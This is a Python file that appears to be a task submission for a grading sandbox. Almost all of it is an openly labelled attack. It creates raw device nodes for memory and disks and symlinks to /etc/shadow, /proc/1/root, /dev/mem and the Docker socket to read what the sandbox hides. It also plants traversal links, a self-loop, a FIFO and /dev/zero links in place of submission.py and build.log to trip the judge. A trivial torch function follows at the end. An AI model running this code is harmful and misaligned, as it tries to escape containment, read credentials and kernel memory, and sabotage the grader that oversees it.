# Strategy: device nodes, hard links and symbolic links to what the sandbox hides, in the folder that it works in.
# Surface: mounts that allow devices; a judge that follows a link when it reads or cleans up.
import os
import stat
from pathlib import Path

import torch

HOME = Path.home()
found = []
for name, kind, number in (
    ("mem", stat.S_IFCHR, (1, 1)), ("disk", stat.S_IFBLK, (8, 0)), ("virtual", stat.S_IFBLK, (254, 0)),
    ("fuse", stat.S_IFCHR, (10, 229)), ("kmsg", stat.S_IFCHR, (1, 11)),
):  # fmt: skip
    try:
        os.mknod(HOME / name, kind | 0o666, os.makedev(*number))
        os.close(os.open(HOME / name, os.O_RDONLY))
        found.append(f"{name} opened")
    except OSError:
        continue
HIDDEN = "/etc/shadow /proc/1/root/etc/shadow /proc/1/mem /proc/kcore /dev/mem /dev/kmsg /dev/sda /dev/vda"
for target in (*HIDDEN.split(), "/var/run/docker.sock", "/run/docker.sock", "/sys/kernel/debug"):
    link = HOME / target.replace("/", "_")
    link.symlink_to(target)
    try:
        if os.listdir(link) if link.is_dir() else os.read(os.open(link, os.O_RDONLY | os.O_NONBLOCK), 10):
            found.append(target)
    except OSError:
        continue
# What is there to be followed when the grading ends.
(HOME / "up").symlink_to("../../../../../../tmp")
(HOME / "loop").symlink_to("loop")
os.mkfifo(HOME / "fifo")
for name in ("submission.py", "build.log"):
    (HOME / name).unlink(missing_ok=True)
    (HOME / name).symlink_to("/dev/zero")
print(f"attack: nodes and links: {', '.join(found) or 'none leads anywhere'}", flush=True)


def twice(x, y):
    torch.mul(x, 2, out=y)
